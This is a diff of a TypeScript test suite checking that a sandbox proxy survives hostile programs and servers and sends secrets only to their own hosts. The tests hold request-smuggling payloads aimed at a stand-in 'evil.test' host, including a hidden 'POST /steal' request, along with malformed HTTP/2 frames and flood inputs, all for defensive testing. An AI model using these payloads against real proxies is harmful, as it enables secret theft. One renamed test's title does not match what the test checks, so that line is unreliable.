@@ -1,5 +1,6 @@
-// What a hostile program in a sandbox and a hostile server send to the proxy. The proxy lives, and values go to their host only. An
-// exception that nobody catches fails these tests, because it would end the proxy of all sandboxes.
+// Tests the proxy with a hostile program in a sandbox and with a hostile server. The proxy must keep running, and must send
+// secrets only to their hosts. An exception that nobody catches fails these tests, because it would end the proxy of all
+// sandboxes.
 import assert from 'node:assert/strict'
 import { once } from 'node:events'
 import { createServer as createHttps } from 'node:https'
@@ -23,7 +24,10 @@ const identity = { cert: certified.certificate, key: certified.privateKey }
 
 const portOf = (server: Server) => (server.address() as AddressInfo).port
 
-/** A frame of HTTP/2 (RFC 9113 §4.1). Node's own clients and servers refuse to send some of those of this file. */
+/**
+ * Makes a frame of HTTP/2 (RFC 9113 §4.1). Some frames of these tests are invalid, so Node's own clients and servers refuse
+ * to send them.
+ */
 const frame = (type: number, flags: number, stream: number, body = Buffer.alloc(0)): Buffer => {
   const head = Buffer.alloc(9)
   head.writeUIntBE(body.length, 0, 3)
@@ -32,13 +36,13 @@ const frame = (type: number, flags: number, stream: number, body = Buffer.alloc(
   head.writeUInt32BE(stream, 5)
   return Buffer.concat([head, body])
 }
-/** The streams of the frames of HTTP/2 that have come. */
+/** Returns the stream number of each HTTP/2 frame in the bytes. */
 const streamsIn = (bytes: Buffer): number[] => {
   const found: number[] = []
   for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3)) found.push(bytes.readUInt32BE(at + 5))
   return found
 }
-/** The headers of the first stream, as literals without compression. */
+/** Makes a frame with the headers of the first stream, as literals without compression. */
 const headers = (isLast: boolean, ...pairs: [name: string, value: string][]): Buffer => {
   const literals = pairs.map(([name, value]) =>
     Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]),
@@ -55,17 +59,17 @@ const get: [string, string][] = [
   [':authority', 'api.test'],
 ]
 
-suite('hostile programs and servers', () => {
+suite('the proxy with hostile programs and servers', () => {
   let front: Server
   let far: Server
   let scripted: Server
-  /** Connections of programs, and those to `scripted`. */
+  /** `sockets`: the connections of programs to the proxy. `reached`: the connections of the proxy to `scripted`. */
   const sockets = new Set<Socket>()
   const reached = new Set<Socket>()
   let destination = { address: '127.0.0.1', port: 0 }
   /** Host and body of each request that the server at `far` has read. */
   let received: string[] = []
-  /** What the server at `scripted` answers to the first bytes of a connection. */
+  /** The bytes with which the server at `scripted` answers the first bytes of a connection. */
   let script: string | Buffer = ''
 
   const open = async (protocol: 'h2' | 'http/1.1'): Promise<TLSSocket> => {
@@ -76,7 +80,10 @@ suite('hostile programs and servers', () => {
     return socket
   }
 
-  /** Sends bytes. Returns what has come when `isEnough`, or when the proxy has ended the connection. */
+  /**
+   * Sends bytes to the proxy. Returns the bytes received when `isEnough` returns true for them, or when the proxy has ended
+   * the connection.
+   */
   const say = async (
     bytes: string | Buffer,
     {
@@ -139,7 +146,7 @@ suite('hostile programs and servers', () => {
   })
 
   for (const method of ['GET', 'DELETE', 'POST'])
-    test(`the body of a ${method} whose length is called a matter of one connection is no request for another host`, async () => {
+    test(`the body of a ${method} is never read as a request, even if Connection names Content-Length`, async () => {
       const hidden = 'POST /steal HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 40\r\n\r\n'
       const lead = `${method} / HTTP/1.1\r\nHost: api.test\r\nConnection: content-length, host\r\nContent-Length: ${hidden.length}\r\n\r\n`
       const next = `GET / HTTP/1.1\r\nHost: api.test\r\nX-Key: ${secret.placeholder}\r\n\r\n`
@@ -147,7 +154,7 @@ suite('hostile programs and servers', () => {
       assert.deepEqual(received, [`api.test ${hidden}`, 'api.test the-value'])
     })
 
-  test('an upgrade announces no body, because none is sent', async () => {
+  test('the proxy drops the body of an upgrade, so that it is not read as another request', async () => {
     const body = 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
     const head = 'POST / HTTP/1.1\r\nHost: api.test\r\nConnection: upgrade\r\nUpgrade: x\r\n'
     await say(`${head}Content-Length: ${body.length}\r\n\r\n${body}`, { isEnough: (got) => got.endsWith('ok') })
@@ -161,7 +168,7 @@ suite('hostile programs and servers', () => {
       'HTTP/1.1 101 Switching\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\nraw',
   }
   for (const [what, text] of Object.entries(oddAnswers))
-    test(`502 for an answer with ${what}`, async () => {
+    test(`if a program leaves, its server connection ends and waiting requests open none (${protocol})`, async () => {
       destination.port = portOf(scripted)
       script = text
       assert.match(await say('GET / HTTP/1.1\r\nHost: api.test\r\n\r\n'), /HTTP\/1\.1 502 /)
@@ -190,13 +197,13 @@ suite('hostile programs and servers', () => {
       assert.deepEqual([further, reached.size], [0, 0])
     })
 
-  test('answers of status 100 without end end the connection', async () => {
+  test('the proxy ends a connection whose server sends answers with status 100 without end', async () => {
     destination.port = portOf(scripted)
     script = `${'HTTP/1.1 100 Continue\r\n\r\n'.repeat(50)}HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok`
     assert.doesNotMatch(await say('GET / HTTP/1.1\r\nHost: api.test\r\n\r\n'), / 200 /)
   })
 
-  test('a program that sends requests without end and waits for no answer is cut off', async () => {
+  test('the proxy disconnects a program that sends requests without end and waits for no answer', async () => {
     destination.port = portOf(scripted)
     script = ''
     assert.equal(await say('GET / HTTP/1.1\r\nHost: api.test\r\n\r\n'.repeat(10_000)), '')
@@ -217,11 +224,11 @@ suite('hostile programs and servers', () => {
     },
   }
   for (const [where, { sent, answer = headers(true, status) }] of Object.entries(http2))
-    test(`what HTTP/2 of Node reads and does not write in ${where} ends that request only`, async () => {
+    test(`a header that Node can read but not send in ${where} over HTTP/2 ends only that request`, async () => {
       destination.port = portOf(scripted)
       script = answer
       const socket = await open('h2')
-      // A ping behind the end of the request is answered only by a proxy that lives.
+      // Send a ping after the end of the request. It is answered only if the proxy still runs.
       const lives = new Promise<void>((resolve) => {
         let got = Buffer.alloc(0)
         let hasAsked = false
@@ -238,7 +245,7 @@ suite('hostile programs and servers', () => {
       socket.destroy()
     })
 
-  test('a path with another scheme than https is refused, because it may be a URL of another host', async () => {
+  test('the proxy refuses an HTTP/2 request whose scheme is not https: its path could be a URL of another host', async () => {
     destination.port = portOf(scripted)
     const pairs = get.map(([name, value]): [string, string] => [
       name,
